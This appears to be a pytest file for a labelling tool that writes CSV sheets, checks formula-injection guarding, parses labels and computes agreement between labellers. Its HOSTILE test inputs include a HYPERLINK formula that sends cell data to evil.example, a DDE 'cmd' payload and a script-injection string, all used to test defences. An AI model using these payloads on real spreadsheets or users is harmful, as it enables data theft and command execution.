"""People are asked blindly, and what they wrote is read as they wrote it."""

import csv
import io
import random
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from longhop.errors import ConfigError
from longhop.operations.labelling import draw_items, good_by_row, read_labels, write_sheet
from longhop.operations.labelling.sampling import to_item
from longhop.operations.labelling.sheet import COLUMNS, guard, steps_of, unguard
from longhop.records.calibration import Item, Label, Step
from longhop.records.verification import Judgement, MultiHop, Probe, ProbeKind
from tests.fakes import BORN, FOUNDED, multi_hop
from tests.longhop.publishing.test_publishing import example

HOSTILE = (
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "'=1",
    "''@x",
    '</script><script>alert(1)</script> "quoted", and; so\ton',
    "first\nsecond\r\nthird",
    "阿达·霍尔姆出生在哪里？",
    "a\u202eb\x00c\x1b[2J",
)
SHEET = ",".join(COLUMNS)


def candidate(number: int, **changes: object) -> MultiHop:
    row = multi_hop(BORN, FOUNDED, question=f"Who founded place {number}?")
    judgement = Judgement(
        rationale="SECRET rationale",
        clarity=3,
        faithfulness=3,
        coherence=3,
        complexity=3,
        model="SECRET-model",
    )
    probe = Probe(
        kind=ProbeKind.FULL, left_out="", answer="SECRET", correct=True, model="SECRET-model"
    )
    known = {"judgement": judgement, "probes": (probe,), "composer": "SECRET-model"}
    return row.model_copy(update={"id": f"m-{number:04}", **known, **changes})


def item(name: str = "m-1", text: str = "Who?") -> Item:
    step = Step(question=text, answer=text, evidence=text)
    return Item(id=name, language="en", question=text, answer=text, steps=(step, step))


def cells(sheet: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(sheet.decode("utf-8-sig"), newline="")))


def filled(path: Path, *lines: str, head: str = SHEET) -> Path:
    path.write_text("\n".join((head, *lines)) + "\n", encoding="utf-8-sig")
    return path


# The sample


def test_a_sample_does_not_depend_on_the_order_of_rows():
    rows = [candidate(number) for number in range(50)]
    shuffled = random.Random(0).sample(rows, len(rows))
    drawn = draw_items(rows, 10, rng_seed=7)

    assert len(drawn) == 10
    assert draw_items(shuffled, 10, rng_seed=7) == drawn
    assert draw_items(rows, 10, rng_seed=8) != drawn
    assert draw_items(rows, 20, rng_seed=7)[:10] == drawn


def test_a_small_sample_is_all_there_is_and_no_row_comes_twice():
    rows = [candidate(1), candidate(2), candidate(1)]

    assert {each.id for each in draw_items(rows, 10, rng_seed=0)} == {"m-0001", "m-0002"}


def test_nothing_tells_a_labeller_what_models_said():
    items = draw_items([candidate(number) for number in range(9)], 9, rng_seed=0)
    sheet = write_sheet(items).decode()

    assert "SECRET" not in sheet
    assert "3" not in {each["good"] for each in cells(write_sheet(items))}
    assert set(Item.model_fields) == {"id", "language", "question", "answer", "steps"}


def test_published_and_turned_away_rows_look_alike():
    row = example(question="Who?")
    hops = tuple(
        BORN.model_copy(update={"question": hop.question, "answer": hop.answer, "quote": each.text})
        for hop, each in zip(row.hops, row.evidence, strict=True)
    )
    turned_away = candidate(0, id=row.id, question="Who?", answer=row.answer, hops=hops)

    assert to_item(row) == to_item(turned_away)


def test_what_is_said_twice_in_a_context_is_quoted_once():
    row = example()
    twice = row.model_copy(update={"evidence": (*row.evidence, *row.evidence)})

    assert to_item(twice) == to_item(row)


# The sheet


@given(st.text(alphabet=st.characters(codec="utf-8")) | st.sampled_from(HOSTILE))
def test_a_guarded_text_is_no_formula_and_comes_back(text: str):
    assert not guard(text).startswith(
        ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
    )
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_breaks_out_of_its_cell(text: str):
    sheet = write_sheet([item("=m", text), item("m-2")])
    first, second = cells(sheet)

    assert sheet.startswith(b"\xef\xbb\xbf")
    assert list(first) == list(COLUMNS)
    assert unguard(first["question"]) == unguard(first["answer"]) == text
    assert unguard(first["steps"]) == steps_of(item("=m", text))
    assert (first["id"], second["id"]) == ("'=m", "m-2")
    assert {first[each] for each in ("good", "multi_hop", "unique", "comment")} == {""}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_sheet_that_is_filled_in_comes_back_whole(tmp_path: Path, text: str):
    rows = cells(write_sheet([item("=m", text), item("m-2", text), item("m-3")], labeller="-kim"))
    said = text.replace("\r\n", "\n").strip()
    rows[0] |= {"good": "yes", "multi_hop": "No ", "comment": guard(said)}
    rows[1] |= {"good": "no", "multi_hop": "no", "unique": "YES"}
    path = tmp_path / "labels.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, COLUMNS, delimiter=";")
        writer.writeheader()
        writer.writerows(rows)
    found = read_labels([path], known={"=m", "m-2", "m-3"})

    assert found.labels == (
        Label(
            id="=m", good=True, multi_hop=False, unique=None, comment=said.strip(), labeller="-kim"
        ),
        Label(id="m-2", good=False, multi_hop=False, unique=True, comment="", labeller="-kim"),
    )
    assert (found.unlabelled, found.agreements) == (1, ())


# What is read


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("m-1,,,,maybe,yes,,,kim", r"a\.csv:3, column good: 'maybe' stands there; .* yes or no"),
        ("m-1,,,,1,yes,,,kim", r":3, column good: '1' stands there"),
        ("m-1,,,,yes,,,,kim", r"column multi_hop: nothing stands there; it must be yes or no"),
        ("m-1,,,,yes,yes,?,,kim", r"column unique: '\?' stands there; .* yes, no or nothing"),
        ("m-1,,,,,,yes,,kim", r"column good: nothing stands there"),
        ("m-1,,,,yes,yes,,,", r"column labeller: nothing stands there; .* name"),
        (",,,,yes,yes,,,kim", r"column id: nothing stands there"),
        ("m-9,,,,yes,yes,,,kim", r"column id: 'm-9' stands there; .* row that was drawn"),
        ("m-1,,,,yes,yes", r"a\.csv:3: 6 cells in 9 columns"),
        ("m-1,,,,yes,yes,,,kim,more", r"a\.csv:3: 10 cells in 9 columns"),
        ('m-1,"open', r"a\.csv:3 is no row of a sheet"),
        ("m-0,,,,no,yes,,,kim", r"'kim' labelled 'm-0' another way in .*a\.csv:2"),
    ],
)
def test_what_is_no_label_is_refused_by_its_place(tmp_path: Path, line: str, message: str):
    path = filled(tmp_path / "a.csv", "m-0,,,,yes,yes,,,kim", line)

    with pytest.raises(ConfigError, match=message):
        read_labels([path], known={"m-0", "m-1"})


def test_a_place_counts_the_lines_within_cells(tmp_path: Path):
    path = filled(tmp_path / "a.csv", 'm-0,"two\nlines",,,yes,yes,,,kim', "m-1,,,,x,yes,,,kim")

    with pytest.raises(ConfigError, match=r"a\.csv:4, column good"):
        read_labels([path])


def test_all_that_is_wrong_is_said_at_once_up_to_a_limit(tmp_path: Path):
    lines = (f"m-{each},,,,x,yes,,,kim" for each in range(30))

    with pytest.raises(ConfigError) as refused:
        read_labels([filled(tmp_path / "a.csv", *lines)])
    assert str(refused.value).count("column good") == 20
    assert str(refused.value).endswith("and 10 more")


@pytest.mark.parametrize(
    ("head", "message"),
    [
        (SHEET.replace("good", "god"), "no column 'good'"),
        (SHEET + ",mood", "unknown column 'mood'"),
        (SHEET + ",good", "two columns are named 'good'"),
        ("", "no column 'id'"),
    ],
)
def test_columns_are_those_of_the_sheet(tmp_path: Path, head: str, message: str):
    with pytest.raises(ConfigError, match=message):
        read_labels([filled(tmp_path / "a.csv", head=head)])


def test_what_cannot_be_read_is_named(tmp_path: Path):
    path = tmp_path / "a.csv"
    path.write_bytes(SHEET.encode() + "\nm-1,é".encode("latin-1"))

    with pytest.raises(ConfigError, match=r"a\.csv is not UTF-8 .*CSV UTF-8"):
        read_labels([path])
    with pytest.raises(ConfigError, match=r"none\.csv: No such file"):
        read_labels([tmp_path / "none.csv"])


def test_empty_lines_and_texts_left_out_do_no_harm(tmp_path: Path):
    head = "id;good;multi_hop;unique;comment;labeller;"
    path = filled(
        tmp_path / "a.csv", "m-1;yes;yes;;;kim;", ";;;;;;", "m-2;;;;later;kim;", head=head
    )
    found = read_labels([path, path])

    assert [each.id for each in found.labels] == ["m-1"]
    assert found.unlabelled == 2


def test_two_people_are_compared(tmp_path: Path):
    kim = filled(
        tmp_path / "kim.csv",
        *(f"m-{each},,,,{'yes' if each < 6 else 'no'},yes,yes,,kim" for each in range(10)),
    )
    lee = filled(
        tmp_path / "lee.csv",
        *(f"m-{each},,,,{'yes' if each < 5 else 'no'},yes,,,lee" for each in range(8)),
    )
    found = read_labels([lee, kim])
    good, multi_hop = found.agreements

    assert (good.one, good.other, good.asked, good.rows) == ("kim", "lee", "good", 8)
    assert (good.agreed, good.disagreed) == (7, ("m-5",))
    assert good.kappa == pytest.approx((7 / 8 - 36 / 64) / (1 - 36 / 64))
    assert (multi_hop.asked, multi_hop.agreed, multi_hop.kappa) == ("multi_hop", 8, None)
    assert good_by_row(found.labels) == {f"m-{each}": each < 5 for each in range(10)}
